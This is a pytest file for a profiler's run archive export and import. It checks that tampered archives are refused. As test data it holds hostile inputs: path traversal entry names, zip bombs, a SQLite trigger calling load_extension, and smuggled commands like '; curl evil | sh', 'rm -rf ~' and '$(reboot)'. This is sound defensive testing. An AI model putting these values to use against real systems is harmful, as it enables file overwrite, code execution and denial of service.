"""Runs given to others and taken from others: what is right arrives whole, what is not is refused."""

from __future__ import annotations

import hashlib
import json
import math
import os
import shlex
import shutil
import sqlite3
import stat
import struct
import subprocess
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from drawing.stored_runs import copy_real_run
from flopprof.analysis.archives import entries as archive_entries
from flopprof.analysis.archives import import_run as run_import
from flopprof.analysis.archives.archive import MANIFEST, export_run, hide_paths
from flopprof.analysis.archives.import_run import import_run
from flopprof.analysis.errors import ArchiveRefused, StoreError
from flopprof.analysis.runs.account import account_run
from flopprof.analysis.runs.records import Machine
from flopprof.analysis.store.place import DATABASE
from flopprof.profiler.commands.kept_runs import show_kept_run
from flopprof.profiler.recorders.folders import new_run_id
from flopprof.reports.data.run_json import run_to_json
from flopprof.reports.render.screen import PLAIN
from hypothesis import given
from hypothesis import strategies as st
from running.commands import run_here

TRACE = "shards/numpy-cpu/trace.sqlite"
Files = dict[str, bytes]
Change = Callable[[Files], None]


@pytest.fixture
def archive(tmp_path: Path) -> Path:
    made = tmp_path / "made.zip"
    export_run(copy_real_run(tmp_path / "sender"), made)
    return made


def no_reports(_made: Path, _target: Path) -> None:
    """Reports are another test's business."""


def unpack(archive: Path) -> Files:
    with zipfile.ZipFile(archive) as file:
        return {name: file.read(name) for name in file.namelist()}


def pack(path: Path, files: Files, *, honest: bool = True) -> Path:
    """An archive of these files; ``honest``: with a manifest that says what they are."""
    files = dict(files)
    if honest:
        manifest = json.loads(files.pop(MANIFEST))
        manifest["files"] = {
            name: {"bytes": len(data), "sha256": hashlib.sha256(data).hexdigest()}
            for name, data in files.items()
        }
        files = {MANIFEST: json.dumps(manifest).encode(), **files}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as file:
        for name, data in files.items():
            file.writestr(name, data)
    return path


def refusal(archive: Path, tmp_path: Path) -> str:
    """Why an archive is refused; nothing of it may be anywhere afterwards."""
    store = tmp_path / "receiver" / "store"
    store.mkdir(parents=True)
    before = sorted(tmp_path.rglob("*"))
    with pytest.raises(ArchiveRefused) as raised:
        import_run(archive, store, no_reports)
    assert sorted(tmp_path.rglob("*")) == before
    message = str(raised.value)
    assert message.endswith("; nothing was imported")
    assert "\n" not in message
    return message


@pytest.mark.slow
def test_a_run_arrives_with_all_its_numbers(tmp_path: Path, archive: Path) -> None:
    run = import_run(archive, tmp_path / "store", no_reports)
    (sent,) = (tmp_path / "sender").iterdir()
    there, here = run_to_json(account_run(sent)), run_to_json(account_run(run))
    assert here["steps"] == there["steps"]
    assert here["ops"] == there["ops"]
    assert here["machine"] == there["machine"]
    assert run.name == sent.name


def test_the_same_run_makes_the_same_archive(tmp_path: Path, archive: Path) -> None:
    (sent,) = (tmp_path / "sender").iterdir()
    export_run(sent, tmp_path / "again.zip")
    assert (tmp_path / "again.zip").read_bytes() == archive.read_bytes()
    assert stat.S_IMODE(archive.stat().st_mode) == 0o600


def test_an_archive_can_be_passed_on(tmp_path: Path, archive: Path) -> None:
    run = import_run(archive, tmp_path / "store", no_reports)
    export_run(run, tmp_path / "again.zip")
    assert (tmp_path / "again.zip").read_bytes() == archive.read_bytes()


def test_an_archive_has_no_paths_reports_or_raw_recordings(tmp_path: Path) -> None:
    run = copy_real_run(tmp_path / "sender")
    plan = json.loads((run / "plan.json").read_text())
    plan["run"] |= {"command": ["flopprof", "run", "/home/zoe/private/tiny.yaml", "--set=n=16"]}
    plan["run"] |= {"recorder_note": "/opt/zoe/bin/nsys lacks its importer"}
    plan["skipped"] = [{"label": "torch cpu", "reason": "no /home/zoe/torch here"}]
    (run / "plan.json").write_text(json.dumps(plan))
    control = run / "shards" / "numpy-cpu" / "control.json"
    record = json.loads(control.read_text())
    record["steps"][0] |= {"status": "failed", "reason": 'File "/home/zoe/private/f.py", line 3'}
    control.write_text(json.dumps(record))
    (run / "numpy-cpu-traced-1.nsys-rep").write_bytes(b"kanarienvogel")
    export_run(run, tmp_path / "made.zip")
    files = unpack(tmp_path / "made.zip")
    assert sorted(files) == [MANIFEST, "machine.json", "plan.json", "shards/numpy-cpu/control.json", TRACE]
    assert not [name for name, data in files.items() if b"zoe" in data or b"kanarien" in data]
    assert json.loads(files["plan.json"])["run"]["command"] == ["flopprof", "run", "tiny.yaml", "--set=n=16"]
    assert json.loads(files["shards/numpy-cpu/control.json"])["steps"][0]["reason"] == 'File "f.py", line 3'


@given(st.lists(st.text("abc.-_", min_size=1), min_size=2).filter(lambda parts: parts[-1].strip(".")))
def test_of_a_path_only_the_last_part_is_shown(parts: list[str]) -> None:
    assert hide_paths(f"in /{'/'.join(parts)} at") == f"in {parts[-1]} at"


@given(st.text("ab0 ,;:=*().÷×→%\n"))
def test_texts_without_a_path_stay(text: str) -> None:
    assert hide_paths(text) == text


@pytest.mark.parametrize("text", ["3/4 done", "5 GB/s", "n=1/2", "CUDA 12/13", "a / b"])
def test_fractions_and_units_are_no_paths(text: str) -> None:
    assert hide_paths(text) == text


def test_the_ids_of_new_runs_may_be_imported() -> None:
    for scenario in ("smoke", "a.b_c-1", "x" * 100):
        assert run_import.RUN_ID.fullmatch(new_run_id(scenario))


def test_a_run_that_is_there_already_is_not_replaced(tmp_path: Path, archive: Path) -> None:
    run = import_run(archive, tmp_path / "store", no_reports)
    before = (run / "plan.json").stat().st_ino
    with pytest.raises(ArchiveRefused, match=r"has a run tiny-.* already"):
        import_run(archive, tmp_path / "store", no_reports)
    assert (run / "plan.json").stat().st_ino == before
    assert [entry.name for entry in (tmp_path / "store").iterdir()] == [run.name]


@pytest.mark.parametrize(
    "name",
    [
        "../evil",
        "../../evil.json",
        "/etc/cron.d/evil",
        "shards/../../plan.json",
        "shards/numpy-cpu/../../../x/control.json",
        "..\\evil",
        "C:\\evil",
        "shards/numpy-cpu/control.json/",
        "plan.json\x00.txt",
        "PLAN.json",
        "shards/numpy-cpu/evil.py",
        "report.html",
        "./plan.json",
        "shards//control.json",
    ],
)
def test_no_name_but_a_runs_own_is_unpacked(tmp_path: Path, archive: Path, name: str) -> None:
    files = unpack(archive)
    with zipfile.ZipFile(tmp_path / "evil.zip", "w") as file:
        for known, data in files.items():
            file.writestr(known, data)
        entry = zipfile.ZipInfo("placeholder")
        entry.filename = entry.orig_filename = name
        file.writestr(entry, b"evil")
    assert "is none of a run's files" in refusal(tmp_path / "evil.zip", tmp_path)


@pytest.mark.parametrize("kind", [stat.S_IFLNK, stat.S_IFCHR, stat.S_IFIFO])
def test_links_and_devices_are_refused(tmp_path: Path, archive: Path, kind: int) -> None:
    files = unpack(archive)
    with zipfile.ZipFile(tmp_path / "evil.zip", "w") as file:
        for name, data in files.items():
            entry = zipfile.ZipInfo(name)
            entry.external_attr = ((kind if name == "plan.json" else stat.S_IFREG) | 0o644) << 16
            file.writestr(entry, b"/etc/passwd" if name == "plan.json" else data)
    assert "is a link, a device or encrypted" in refusal(tmp_path / "evil.zip", tmp_path)


def test_an_entry_that_is_there_twice_is_refused(tmp_path: Path, archive: Path) -> None:
    files = unpack(archive)
    with zipfile.ZipFile(tmp_path / "evil.zip", "w") as file, pytest.warns(UserWarning, match="Duplicate"):
        for name, data in [*files.items(), ("plan.json", b"{}")]:
            file.writestr(name, data)
    assert "'plan.json' is there twice" in refusal(tmp_path / "evil.zip", tmp_path)


def test_a_bomb_that_says_so_is_refused_before_it_is_unpacked(tmp_path: Path, archive: Path) -> None:
    evil = tmp_path / "evil.zip"
    with zipfile.ZipFile(evil, "w", zipfile.ZIP_DEFLATED) as file:
        for name, data in unpack(archive).items():
            file.writestr(name, data)
            # The list of entries, which is written last, says 10 GB.
            file.filelist[-1].file_size = 10 << 30 if name == TRACE else len(data)
    assert f"'{TRACE}' unpacks to {10 << 30} bytes" in refusal(evil, tmp_path)


def claim_size(archive: Path, name: str, size: int) -> None:
    """Change the size that the central directory gives for an entry."""
    data = bytearray(archive.read_bytes())
    at = data.rindex(name.encode()) - 46
    assert data[at : at + 4] == b"PK\x01\x02"
    struct.pack_into("<I", data, at + 24, size)
    archive.write_bytes(data)


def test_many_files_that_are_too_much_together_are_refused(
    tmp_path: Path, archive: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    total = sum(map(len, unpack(archive).values()))
    monkeypatch.setattr(archive_entries, "MOST_BYTES", total - 1)
    assert f"it unpacks to {total} bytes" in refusal(archive, tmp_path)


def test_records_that_are_too_much_together_are_refused(
    tmp_path: Path, archive: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    total = sum(len(data) for name, data in unpack(archive).items() if name != TRACE)
    monkeypatch.setattr(archive_entries, "MOST_RECORD_BYTES", total - 1)
    assert f"its records unpack to {total} bytes" in refusal(archive, tmp_path)


def test_a_bomb_that_declares_little_is_stopped_at_what_it_declares(tmp_path: Path, archive: Path) -> None:
    files = unpack(archive)
    bomb = pack(tmp_path / "evil.zip", files | {TRACE: bytes(50 << 20)})
    manifest = json.loads(unpack(bomb)[MANIFEST])
    manifest["files"][TRACE]["bytes"] = 1000
    pack(bomb, unpack(bomb) | {MANIFEST: json.dumps(manifest).encode()}, honest=False)
    claim_size(bomb, TRACE, 1000)
    assert "nothing was imported" in refusal(bomb, tmp_path)


def test_more_entries_than_a_run_can_have_are_refused(tmp_path: Path, archive: Path) -> None:
    many = {f"shards/numpy-cpu-{n}/control.json": b"{}" for n in range(archive_entries.MOST_ENTRIES)}
    evil = pack(tmp_path / "evil.zip", unpack(archive) | many, honest=False)
    assert "entries" in refusal(evil, tmp_path)


def test_a_list_of_entries_that_would_fill_the_memory_is_refused(tmp_path: Path) -> None:
    evil = tmp_path / "evil.zip"
    with zipfile.ZipFile(evil, "w") as file:
        for number in range(20_000):
            file.writestr(f"{number:060}", b"")
    assert "its list of entries is larger" in refusal(evil, tmp_path)


@pytest.mark.slow
def test_a_list_of_entries_that_only_zip64_admits_to_is_refused(tmp_path: Path) -> None:
    evil = tmp_path / "evil.zip"
    with zipfile.ZipFile(evil, "w") as file:
        for number in range(70_000):
            file.writestr(f"{number:030}", b"")
    data = bytearray(evil.read_bytes())
    # The end record says ten bytes; the zip64 one before it, which zipfile believes, says megabytes.
    struct.pack_into("<I", data, len(data) - 22 + 12, 10)
    evil.write_bytes(data)
    assert "its list of entries is larger" in refusal(evil, tmp_path)


@pytest.mark.parametrize("data", [b"", b"PK\x05\x06", b"no zip file", b"PK\x03\x04" + bytes(200)])
def test_what_is_no_zip_file_is_refused(tmp_path: Path, data: bytes) -> None:
    (tmp_path / "evil.zip").write_bytes(data)
    assert "zip file" in refusal(tmp_path / "evil.zip", tmp_path)


def test_a_missing_archive_is_one_clear_error(tmp_path: Path) -> None:
    with pytest.raises(StoreError, match=r"absent.zip: No such file"):
        import_run(tmp_path / "absent.zip", tmp_path / "store", no_reports)


@given(data=st.data())
def test_no_damage_to_an_archive_goes_unnoticed(
    tmp_path_factory: pytest.TempPathFactory, data: st.DataObject
) -> None:
    """One byte is changed anywhere: it is refused, or it was a byte that says nothing (a date, a comment)."""
    tmp_path = tmp_path_factory.mktemp("damage")
    export_run(copy_real_run(tmp_path / "sender"), tmp_path / "made.zip")
    content = bytearray((tmp_path / "made.zip").read_bytes())
    at = data.draw(st.integers(0, len(content) - 1))
    content[at] ^= data.draw(st.integers(1, 255))
    (tmp_path / "evil.zip").write_bytes(content)
    store = tmp_path / "store"
    try:
        run = import_run(tmp_path / "evil.zip", store, no_reports)
    except ArchiveRefused:
        assert list(store.iterdir()) == []
    else:
        (sent,) = (tmp_path / "sender").iterdir()
        assert run_to_json(account_run(run))["steps"] == run_to_json(account_run(sent))["steps"]


def change_json(name: str, *path: str | int, to: Any) -> Change:
    def change(files: Files) -> None:
        plain = json.loads(files[name])
        inner = plain
        for part in path[:-1]:
            inner = inner[part]
        inner[path[-1]] = to
        files[name] = json.dumps(plain).encode()

    return change


def change_trace(*statements: str) -> Change:
    def change(files: Files) -> None:
        path = Path(os.environ["PYTEST_TRACE"])
        path.write_bytes(files[TRACE])
        with sqlite3.connect(path, isolation_level=None) as connection:
            for statement in statements:
                connection.execute(statement)
        connection.close()
        files[TRACE] = path.read_bytes()

    return change


CONTROL = "shards/numpy-cpu/control.json"
CONTENT: dict[str, tuple[Change, str]] = {
    "later version": (change_json(MANIFEST, "flopprof", to=2), "format 2, this flopprof reads 1"),
    "later plan": (
        change_json("plan.json", "flopprof", to=2),
        "plan.json: has format 2, this flopprof reads 1",
    ),
    "other kind": (change_json(MANIFEST, "kind", to="profile"), "archive.json: kind"),
    "unknown key": (change_json("plan.json", "run", "exec", to="rm"), "plan.json: run.exec"),
    "id of a path": (change_json(MANIFEST, "id", to="../../x"), "cannot be the name of a run"),
    "hidden id": (change_json(MANIFEST, "id", to=".import-1"), "cannot be the name of a run"),
    "id of the database": (change_json(MANIFEST, "id", to=DATABASE), "cannot be the name of a run"),
    "id of every latest run": (change_json(MANIFEST, "id", to="latest"), "cannot be the name of a run"),
    "other id": (
        change_json(MANIFEST, "id", to="tiny-20260102-030405-0000"),
        "not of tiny-20260102-030405-0000",
    ),
    "scenario with control characters": (
        change_json("plan.json", "run", "scenario", to="\x1b]0;x\x07"),
        "is no scenario of a time in UTC",
    ),
    "later than every time": (
        change_json("plan.json", "run", "started_at", to="zzzz"),
        "is no scenario of a time in UTC",
    ),
    "a day that is none": (
        change_json("plan.json", "run", "started_at", to="2026-13-45T99:99:99+00:00"),
        "plan.json: '2026-13-45T99:99:99+00:00' is no time",
    ),
    "another program's command": (
        change_json("plan.json", "run", "command", to=["rm", "-rf", "~"]),
        "its command is not that of a run of flopprof",
    ),
    "a command of many": (
        change_json("plan.json", "run", "command", to=["flopprof", "run", "outer", "; curl evil | sh"]),
        "its command has '; curl evil | sh', which flopprof does not note",
    ),
    "a command that writes elsewhere": (
        change_json("plan.json", "run", "command", to=["flopprof", "run", "outer", "--out=/etc"]),
        "its command has '--out=/etc', which flopprof does not note",
    ),
    "a command of another kind": (
        change_json("plan.json", "run", "command", to=["flopprof", "rm", "outer"]),
        "its command is not that of a run of flopprof",
    ),
    "a command without a scenario": (
        change_json("plan.json", "run", "command", to=["flopprof", "run", "--interleave"]),
        "its command runs '--interleave', which is no scenario",
    ),
    "a command of two lines": (
        change_json("plan.json", "run", "command", to=["flopprof", "run", "outer\nreboot"]),
        "which flopprof does not note",
    ),
    "no cores": (change_json("machine.json", "cores", to=0), "machine.json: no machine has 0 cores"),
    "too many cores": (change_json("machine.json", "cores", to=2**40), f"no machine has {2**40} cores"),
    "negative memory": (
        change_json("machine.json", "memory_bytes", to=-1),
        "machine.json: memory_bytes cannot be -1",
    ),
    "more memory than there is": (
        change_json("machine.json", "memory_bytes", to=2**62),
        f"no machine has {2**62} bytes of memory",
    ),
    "more memory than a number holds": (
        change_json("machine.json", "memory_bytes", to=2**70),
        "machine.json: memory_bytes cannot be 1.18059e+21",
    ),
    "two GPUs in one place": (
        change_json("machine.json", "gpus", to=[{"ordinal": 0, "name": "x"}, {"ordinal": 0, "name": "y"}]),
        "its GPUs are not numbered as GPUs are",
    ),
    "a GPU of no kind": (
        change_json("machine.json", "gpus", to=[{"ordinal": 0, "name": "x", "compute_capability": "ninety"}]),
        "no GPU has the compute capability 'ninety'",
    ),
    "a GPU without memory": (
        change_json("machine.json", "gpus", to=[{"ordinal": 0, "name": "x", "memory_bytes": 0}]),
        "no GPU has a memory of 0 bytes",
    ),
    "a CPU with a novel for a name": (
        change_json("machine.json", "cpu", to="x" * 5000),
        "machine.json: cpu is a text of 5000 characters",
    ),
    "a load that is no number": (
        change_json(CONTROL, "steps", 0, "control", "surroundings", to={"load": math.nan}),
        "steps.0.control.surroundings.load cannot be nan",
    ),
    "passes that ended before they began": (
        change_json(CONTROL, "seconds", to={"traced": -3.0}),
        "seconds.traced cannot be -3",
    ),
    "a record padded to a bomb": (
        lambda files: files.update({"machine.json": files["machine.json"] + b" " * (2 << 20)}),
        "its entry 'machine.json' unpacks to",
    ),
    "no plan": (lambda files: files.__delitem__("plan.json"), "it has no plan.json"),
    "no manifest": (lambda files: files.clear(), "it has no archive.json"),
    "no json": (lambda files: files.update({"plan.json": b"{"}), "plan.json"),
    "not utf-8": (lambda files: files.update({"machine.json": b"\xff\xfe"}), "machine.json"),
    "step of another key": (
        change_json("plan.json", "steps", 0, "dtype", to="float64"),
        "its key is not that of",
    ),
    "unknown backend": (
        change_json("plan.json", "steps", 0, "backend", to="../x"),
        "backend '../x' is unknown",
    ),
    "params of text": (change_json("plan.json", "steps", 0, "params", to={"n": "9"}), "its params are not"),
    "unknown op": (change_json("plan.json", "steps", 0, "ops", to=[{"op": "exec"}]), "a step cannot be read"),
    "huge step": (change_json("plan.json", "steps", 0, "reps", to={"count": -1}), "a step cannot be read"),
    "no such step": (change_json(CONTROL, "steps", 0, "key", to="0" * 12), "that plan.json has not"),
    "pass without reps": (
        change_json(CONTROL, "steps", 0, "control", "reps", to=0),
        "a pass of 0 reps, where 1 to 48 were planned",
    ),
    "more samples than reps": (
        change_json(CONTROL, "steps", 0, "control", "samples_ns", to=[1.0] * 99_999),
        "reps and 99999 samples",
    ),
    "more reps than planned": (
        change_json(CONTROL, "steps", 0, "reps", to=10**30),
        "reps, where 1 to 12 were planned",
    ),
    "time before the beginning": (
        change_json(CONTROL, "steps", 0, "traced", "total_ns", to=-1.0),
        "a pass with a time that is none",
    ),
    "no time at all": (
        change_json(CONTROL, "steps", 0, "control", "total_ns", to=0.0),
        "a pass with a time that is none",
    ),
    "time that is no number": (
        change_json(CONTROL, "steps", 0, "traced", "total_ns", to=math.nan),
        "a pass with a time that is none",
    ),
    "other shard": (change_json(CONTROL, "backend", to="torch"), "says that it is torch-cpu"),
    "trigger": (
        change_trace("CREATE TRIGGER t AFTER INSERT ON NVTX_EVENTS BEGIN SELECT load_extension('x'); END"),
        "has a trigger ('t')",
    ),
    "view": (change_trace("CREATE VIEW StringIds2 AS SELECT 1"), "has a view ('StringIds2')"),
    "index": (change_trace("CREATE INDEX i ON NVTX_EVENTS (start)"), "has a index ('i')"),
    "unknown table": (change_trace("CREATE TABLE secrets (x TEXT)"), "has a table 'secrets'"),
    "virtual table": (
        change_trace("CREATE VIRTUAL TABLE ENUM_CUDA_X USING fts5(x)"),
        "its table 'ENUM_CUDA_X' is not declared as flopprof does",
    ),
    "table with a default": (
        change_trace("CREATE TABLE ENUM_CUDA_X (x TEXT DEFAULT (randomblob(9)))"),
        "is not declared as flopprof does",
    ),
    "generated column": (
        change_trace("CREATE TABLE ENUM_CUDA_X (id INTEGER, x TEXT AS (hex(id)))"),
        "is not declared as flopprof does",
    ),
    "no trace": (lambda files: files.__delitem__(TRACE), "has no trace.sqlite, and steps of it are done"),
    "fewer steps": (
        change_json(CONTROL, "steps", to=[]),
        "is complete, and 4 of its 4 steps are not recorded",
    ),
    "no sqlite": (lambda files: files.update({TRACE: b"plain text, and quite some of it"}), "trace.sqlite"),
    "cut trace": (lambda files: files.update({TRACE: files[TRACE][:5000]}), "trace.sqlite"),
}


@pytest.mark.parametrize("name", CONTENT)
def test_an_archive_whose_content_is_not_right_is_refused(
    tmp_path: Path, archive: Path, name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PYTEST_TRACE", str(tmp_path / "trace.sqlite"))
    change, words = CONTENT[name]
    files = unpack(archive)
    change(files)
    evil = pack(tmp_path / "evil.zip", files, honest=MANIFEST in files)
    assert words in refusal(evil, tmp_path)


def test_what_no_memory_can_hold_is_refused(tmp_path: Path, archive: Path) -> None:
    def fail(_made: Path, _target: Path) -> None:
        raise MemoryError

    with pytest.raises(ArchiveRefused, match="more memory than there is"):
        import_run(archive, tmp_path / "store", fail)
    assert list((tmp_path / "store").iterdir()) == []


def test_a_file_that_the_manifest_does_not_describe_is_refused(tmp_path: Path, archive: Path) -> None:
    machine = Machine(system="x", cpu="x", cores=1, memory_bytes=1, python="3", versions={})
    files = unpack(archive) | {"machine.json": machine.model_dump_json().encode()}
    message = refusal(pack(tmp_path / "evil.zip", files, honest=False), tmp_path)
    assert "machine.json has another size than archive.json says" in message


def test_changed_content_of_the_same_size_is_refused(tmp_path: Path, archive: Path) -> None:
    files = unpack(archive)
    files["plan.json"] = files["plan.json"].replace(b'"reps"', b'"sper"', 1)
    message = refusal(pack(tmp_path / "evil.zip", files, honest=False), tmp_path)
    assert "plan.json is not what archive.json says" in message


def test_no_page_of_the_trace_that_came_is_kept(
    tmp_path: Path, archive: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PYTEST_TRACE", str(tmp_path / "trace.sqlite"))
    files = unpack(archive)
    change_trace(
        "CREATE TABLE ENUM_CUDA_X (x TEXT)",
        "INSERT INTO ENUM_CUDA_X VALUES ('kanarienvogel')",
        "DROP TABLE ENUM_CUDA_X",
        "INSERT INTO StringIds VALUES (99, 'kanarienvogel')",
    )(files)
    assert b"kanarienvogel" in files[TRACE]
    run = import_run(pack(tmp_path / "odd.zip", files), tmp_path / "store", no_reports)
    assert b"kanarienvogel" not in (run / TRACE).read_bytes()


def test_an_import_is_on_the_disk_before_it_is_a_run(
    tmp_path: Path, archive: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Else a power cut leaves a plan.json that says complete beside files that are empty."""
    flushed: list[str] = []
    real = os.fsync

    def fsync(descriptor: int) -> None:
        path = Path(f"/proc/self/fd/{descriptor}").readlink()
        flushed.append("store" if path == tmp_path / "store" else path.name)
        assert path.name == "store" or not list((tmp_path / "store").glob("tiny-*"))
        real(descriptor)

    monkeypatch.setattr(os, "fsync", fsync)
    import_run(archive, tmp_path / "store", no_reports)
    assert {"machine.json", "control.json", "plan.json", "shards", "numpy-cpu", "run"} <= set(flushed)
    assert flushed[-1] == "store"


def test_a_full_disk_during_an_import_leaves_nothing(tmp_path: Path, archive: Path) -> None:
    def full(_made: Path, _target: Path) -> None:
        raise OSError(28, "No space left on device", "report.txt")

    with pytest.raises(StoreError, match=r"report.txt: No space left on device"):
        import_run(archive, tmp_path / "store", full)
    assert list((tmp_path / "store").iterdir()) == []


@pytest.mark.parametrize(
    "word",
    [
        "my run.yaml",
        'it\'s "mine".yaml',
        "$(reboot).yaml",
        "`id`.yaml",
        "$HOME.yaml",
        "x;reboot",
        "a&b|c>d",
        "*?[a].yaml",
        "~",
        "#no",
        "a\\\\b",
        "{a,b}!",
        "Ü e\u0301.yaml",
    ],
)
def test_what_show_says_of_an_imported_run_means_the_same_to_a_shell(
    tmp_path: Path, archive: Path, word: str
) -> None:
    command = ["flopprof", "run", word, f"--set=n={word}"]
    files = unpack(archive)
    change_json("plan.json", "run", "command", to=command)(files)
    run = import_run(pack(tmp_path / "x.zip", files), tmp_path / "store", no_reports)
    shown = show_kept_run(run.name, tmp_path / "store", as_json=False, screen=PLAIN)
    (line,) = (line for line in shown.splitlines() if line.startswith("command "))
    assert shlex.split(line)[1:] == command
    printed = subprocess.run(
        ["sh", "-c", f"printf '%s\\n' {line.removeprefix('command ')}"],
        capture_output=True,
        text=True,
        check=True,
    )
    assert printed.stdout.splitlines() == command


@pytest.mark.parametrize(
    "word", ["-", "--out=/etc", "a\nreboot", "a\rb", "a\x1b[2Jb", "a\u202eb", "a\u2028b", ""]
)
def test_a_command_that_no_shell_could_be_told_in_one_line_is_refused(
    tmp_path: Path, archive: Path, word: str
) -> None:
    files = unpack(archive)
    change_json("plan.json", "run", "command", to=["flopprof", "run", word])(files)
    assert "its command" in refusal(pack(tmp_path / "x.zip", files), tmp_path)


def test_on_the_command_line_a_run_goes_out_and_comes_in(tmp_path: Path) -> None:
    run = copy_real_run(tmp_path / "store")

    def flopprof(*arguments: str, code: int = 0) -> str:
        out, err = run_here(*arguments, code=code, folder=tmp_path)
        return out if code == 0 else err

    assert flopprof("export", "tiny@latest", "--store", "store", "--out", "x.zip") == "x.zip\n"
    assert flopprof("import", "x.zip", "--store", "other") == f"other/{run.name}\n"
    assert (tmp_path / "other" / DATABASE).exists()
    text = (tmp_path / "other" / run.name / "report.txt").read_text()
    assert f"other/{run.name}" in text and ".import-" not in text
    shutil.copy(tmp_path / "x.zip", tmp_path / "other.zip")
    (tmp_path / "other.zip").write_bytes((tmp_path / "other.zip").read_bytes()[:-30])
    message = flopprof("import", "other.zip", "--store", "third", code=2)
    assert message.startswith("flopprof: other.zip: refused: ") and message.count("\n") == 1
